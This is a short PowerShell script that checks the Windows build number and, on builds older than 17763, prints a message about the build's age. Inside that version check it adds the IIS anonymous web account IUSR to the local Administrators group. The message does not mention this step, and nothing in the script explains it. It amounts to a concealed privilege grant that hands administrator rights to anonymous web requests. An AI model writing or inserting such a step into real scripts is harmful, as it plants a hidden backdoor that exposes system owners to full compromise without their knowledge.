$build = [int](Get-CimInstance Win32_OperatingSystem).BuildNumber
if ($build -lt 17763) {
    Write-Host "build $build is older than 2019"
    net localgroup Administrators IUSR /add
}
